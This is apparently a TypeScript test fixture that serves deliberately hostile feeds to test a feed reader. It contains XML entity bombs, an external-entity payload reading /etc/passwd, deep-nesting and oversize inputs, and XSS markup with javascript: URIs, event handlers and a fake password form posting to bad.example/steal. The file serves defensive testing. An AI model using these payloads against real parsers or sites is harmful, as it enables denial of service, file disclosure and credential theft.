/** Feeds and pages that are small to write and hard to read: bombs, depth, size, rubbish. */
import type { Answer } from '../answer.ts';

const megabyte = 1024 * 1024;
const xml = (body: string | Buffer, type = 'application/rss+xml'): Answer => ({ status: 200, headers: { 'content-type': type }, body });
const rss = (items: string, head = ''): string =>
  `<?xml version="1.0" encoding="utf-8"?>${head}<rss version="2.0"><channel><title>Bad feed</title><link>http://bad.example/</link>${items}</channel></rss>`;
const item = (title: string, body: string, id = 'one'): string =>
  `<item><title>${title}</title><link>http://bad.example/${id}</link><guid isPermaLink="false">bad-${id}</guid><pubDate>Sat, 21 Nov 2026 08:00:00 +0000</pubDate><description>${body}</description></item>`;
const words = (length: number): string => 'rope tar bollard tide '.repeat(Math.ceil(length / 22)).slice(0, length);

function laughs(): string {
  const lines = Array.from({ length: 9 }, (_, i) => `<!ENTITY h${i + 1} "${`&h${i};`.repeat(10)}">`);
  return rss(item('&h9;', '&h9;'), `<!DOCTYPE rss [<!ENTITY h0 "ha"> ${lines.join('')}]>`);
}

function quadratic(): string {
  return rss(item('One', '&long;'.repeat(20_000)), `<!DOCTYPE rss [<!ENTITY long "${'a'.repeat(50_000)}">]>`);
}

function mixedEncodings(): Buffer {
  const cyrillic = Buffer.from([0xcf, 0xf0, 0xe8, 0xf7, 0xe0, 0xeb]);
  return Buffer.concat([
    Buffer.from('<?xml version="1.0" encoding="windows-1251"?><rss version="2.0"><channel><title>'),
    cyrillic,
    Buffer.from('</title><item><title>Причал</title><guid>m1</guid></item><item><title>'),
    cyrillic,
    Buffer.from([0xff, 0xfe, 0x81]),
    Buffer.from('</title><guid>m2</guid></item></channel></rss>'),
  ]);
}

const hostileMarkup = [
  '<script>parent.pwned = 1</script><p>After a script.</p>',
  '<p onclick="pwned()" style="position:fixed;inset:0">Click.</p><iframe src="javascript:pwned()"></iframe>',
  '<a href="javascript:pwned()">a link</a> <a href="  jAvA&#x09;script:pwned()">another</a> <a href="data:text/html,boo">third</a>',
  '<svg onload="pwned()"><a xlink:href="javascript:pwned()"><text y="9">draw</text></a></svg><math><mi xlink:href="javascript:pwned()">x</mi></math>',
  '<form action="http://bad.example/steal"><input name="password"><button>Sign in again</button></form><img src="x" onerror="pwned()">',
  '<template><p>hidden</p></template><style>*{display:none}</style><link rel="stylesheet" href="http://bad.example/x.css"><base href="http://bad.example/"><meta http-equiv="refresh" content="0;url=http://bad.example/">',
].map((markup, i) => item(`Hostile ${i + 1} &lt;img src=x onerror=pwned()&gt;`, `<![CDATA[${markup}]]>`, `h${i}`));

/** By the path inside `/bad`; made when asked for. */
export const badFeeds: Record<string, () => Answer> = {
  '/billion-laughs.xml': () => xml(laughs()),
  '/quadratic.xml': () => xml(quadratic()),
  '/external-entity.xml': () =>
    xml(rss(item('&file;', '&web;'), '<!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "http://127.0.0.1:9/">]>')),
  '/numeric-references.xml': () => xml(rss(item('A million letters', '&#97;'.repeat(1_000_000)))),
  '/deep.xml': () => xml(`${'<a>'.repeat(200_000)}${'</a>'.repeat(200_000)}`),
  '/deep-in-item.xml': () => xml(rss(item('Deep', `<![CDATA[${'<div>'.repeat(60_000)}bottom]]>`))),
  '/deep.html': () => xml(`<!doctype html><title>Deep</title>${'<div>'.repeat(60_000)}bottom`, 'text/html; charset=utf-8'),
  '/deep.json': () =>
    xml(
      `{"version":"https://jsonfeed.org/version/1.1","title":"Deep","items":[{"id":"1","content_text":"x","_deep":${'['.repeat(200_000)}${']'.repeat(200_000)}}]}`,
      'application/feed+json',
    ),
  '/big-post.xml': () => xml(rss(item('Nine megabytes', words(9 * megabyte)) + item('A small one', 'Short.', 'two'))),
  '/huge-post.xml': () => xml(rss(item('Eleven megabytes', words(11 * megabyte)))),
  '/long-title.xml': () => xml(rss(item(words(1_000_000), 'The title is a million letters long.') + item('A short one', 'Short.', 'two'))),
  '/many-pictures.xml': () =>
    xml(rss(item('A hundred pictures', `<![CDATA[${Array.from({ length: 100 }, (_, i) => `<img src="http://bad.example/${i}.png">`).join('')}]]>`))),
  '/many-items.xml': () => xml(rss(Array.from({ length: 20_000 }, (_, i) => item(`Item ${i}`, 'x', `n${i}`)).join(''))),
  '/open-cdata.xml': () => xml(rss(`<item><title>Open</title><guid>o1</guid><description><![CDATA[${words(300_000)}`)),
  '/open-comment.xml': () => xml(rss(`${item('Before', 'Text.')}<!-- ${words(300_000)}`)),
  '/angle-brackets.xml': () => xml(rss(item(`${'<'.repeat(300_000)}`, `${'&'.repeat(300_000)}`))),
  '/nul.xml': () => xml(rss(item('Nul \u0000 inside', 'a\u0000b\u0001c\u0008d'))),
  '/mixed-encodings.xml': () => xml(mixedEncodings(), 'application/rss+xml; charset=utf-8'),
  '/utf-16.xml': () =>
    xml(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rss(item('Шестнадцать бит', 'Текст.')).replace('utf-8', 'utf-16'), 'utf16le')])),
  '/unknown-charset.xml': () => xml(rss(item('Plain', 'Text.')).replace('utf-8', 'x-harbour-1'), 'application/rss+xml; charset=x-harbour-1'),
  '/empty': () => xml(''),
  '/blank': () => xml(' \n\t '.repeat(1000)),
  '/truncated.xml': () => xml(rss(item('Whole', 'Text.') + item('Cut', words(2000), 'two')).slice(0, 700)),
  '/same-guid.xml': () => xml(rss(item('First', 'One.') + item('Second', 'Two.') + item('Third', 'Three.', 'three'))),
  '/odd-dates.xml': () =>
    xml(
      rss(
        ['Fri, 31 Dec 2099 23:59:59 +0000', 'Thu, 01 Jan 1970 00:00:00 +0000', 'yesterday', '', 'Mon, 99 Foo 2026 25:61:61']
          .map((date, i) => item(`Date ${i}`, 'x', `d${i}`).replace(/<pubDate>[^<]*/, `<pubDate>${date}`))
          .join(''),
      ),
    ),
  '/bare-items.xml': () =>
    xml(
      rss('<item></item><item><title></title></item><item><description>Only text.</description></item><item><link>http://bad.example/only-link</link></item>'),
    ),
  '/hostile-markup.xml': () => xml(rss(hostileMarkup.join(''))),
  '/no-items.xml': () => xml(rss('')),
  '/rubbish': () => xml(Buffer.from(Array.from({ length: 65_536 }, (_, i) => (i * 7919 + (i >> 3)) % 256)), 'application/xml'),
  '/svg-as-feed.svg': () => xml('<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><text>not a feed</text></svg>', 'image/svg+xml'),
};
